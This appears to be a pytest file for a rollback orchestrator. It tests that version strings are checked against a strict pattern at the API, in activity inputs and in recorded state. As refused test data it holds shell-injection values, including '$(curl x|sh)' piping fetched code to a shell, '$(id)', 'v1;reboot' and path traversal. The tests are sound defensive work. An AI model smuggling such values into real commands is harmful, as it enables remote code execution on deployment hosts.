"""A version is one strict pattern at every door: the HTTP API, and the activities that run the deploy hook.

A version ends up among deploy_command's arguments, so a value such as `--help; $(x) ../../etc`
would be option, path or (where the hook wraps `sh -c` or `ssh`) shell injection. The CLI,
the Temporal UI and config files are covered in test_cli.py, test_temporal_cli.py and
test_config.py.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from pydantic import ValidationError
from temporalio.exceptions import ApplicationError
from temporalio.testing import ActivityEnvironment

from activities.backend import BackendRollback
from activities.coordination import Coordination
from activities.database import DatabaseRollback
from activities.health import HttpHealth
from rollback.api import ApiSettings, create_app
from rollback.client import RollbackOrchestrator
from rollback.models import RollbackRequest, RollbackTarget
from rollback.targets.backend.contract import BatchInput
from rollback.settings import TemporalSettings
from rollback.state import StateStore
from tests.conftest import write_config

INJECTION = "--help; $(curl x|sh) ../../etc"
TOKEN = "versions-test-token-0123456789"


@pytest.mark.parametrize("version", ["v2.3.0", "0002", "ae1027a6acf", "1.4.0-rc.1+build.7", "release_2026_01", "V9"])
def test_real_versions_and_revisions_pass(version: str) -> None:
    from rollback.versions import version_problem

    assert version_problem(version) is None
    assert RollbackRequest(environment="demo", targets=[RollbackTarget.FULL],
                           to_version={RollbackTarget.BACKEND: version, RollbackTarget.DATABASE: version})


@pytest.mark.parametrize("version", [INJECTION, "-rf", "v1 v2", "v1;reboot", "$(id)", "`id`", "a/b", "..", "v1..v2",
                                     ".hidden", "", "v" * 65, "v1\n", "v1|sh", "v1&", "ü1"])
def test_anything_else_is_refused(version: str) -> None:
    from rollback.versions import version_problem

    assert version_problem(version) is not None


async def test_the_api_refuses_a_bad_version_naming_the_field(blue_green, tmp_path: Path) -> None:
    config = write_config(blue_green, tmp_path)
    # Nothing listens at this address: a 422 proves nothing was started.
    nowhere = RollbackOrchestrator(settings=TemporalSettings(address="127.0.0.1:1", namespace="default", task_queue="none"))
    app = create_app(settings=ApiSettings(config=config.path, token=TOKEN), orchestrator=nowhere)
    body = {"environment": "demo", "targets": ["backend"], "to_version": {"backend": INJECTION}}
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api") as http:
        answer = await http.post("/v1/rollbacks", content=json.dumps(body),
                                 headers={"Authorization": f"Bearer {TOKEN}", "Content-Type": "application/json"})
        schema = (await http.get("/openapi.json")).json()
    assert answer.status_code == 422, answer.text
    [problem] = answer.json()["detail"]
    assert problem["loc"] == ["body", "to_version", "backend"] and "not a valid version" in problem["msg"]
    # Published, so clients can check before sending.
    assert "pattern" in json.dumps(schema["components"]["schemas"]["RollbackRequest"]["properties"]["to_version"])


async def test_the_deploy_hook_never_gets_a_bad_version(rolling, tmp_path: Path, http) -> None:
    """Defence in depth: a version that got past every door (an old workflow, a hand-edited
    state file) is still refused before the batch is drained or the hook runs."""
    backend = BackendRollback(write_config(rolling, tmp_path), HttpHealth(http))
    restarts = rolling.instances_state_dir / "restarts.log"
    before = restarts.read_text()

    with pytest.raises(ValidationError, match="not a valid version"):  # the activity's input refuses it first
        BatchInput(environment="demo", instances=["app-1"], version=INJECTION)
    with pytest.raises(ApplicationError) as refused:  # and the activity, were it constructed unchecked
        await ActivityEnvironment().run(backend.roll_batch, BatchInput.model_construct(
            environment="demo", instances=["app-1"], version=INJECTION, require_healthy=True))

    assert refused.value.non_retryable and "not a valid version" in str(refused.value)
    assert restarts.read_text() == before
    assert rolling.live() == ("app-1", "app-2", "app-3")


async def test_assessment_refuses_a_bad_recorded_version(blue_green, tmp_path: Path, http, client) -> None:
    """A state file written before versions were checked: the plan refuses it, non-retryable."""
    config = write_config(blue_green, tmp_path)
    StateStore(blue_green.state_dir).record_deploy("demo", "backend", INJECTION)  # v1 becomes known-good
    StateStore(blue_green.state_dir).record_deploy("demo", "backend", "v2")  # ... and the bad one known-good
    backend = BackendRollback(config, HttpHealth(http))
    coordination = Coordination(config, {"backend": backend, "database": DatabaseRollback(config)}, client)

    with pytest.raises(ApplicationError) as refused:
        await ActivityEnvironment().run(coordination.plan, RollbackRequest(environment="demo", targets=[RollbackTarget.BACKEND]))

    assert refused.value.non_retryable
    assert "known-good version" in str(refused.value) and "not a valid version" in str(refused.value)
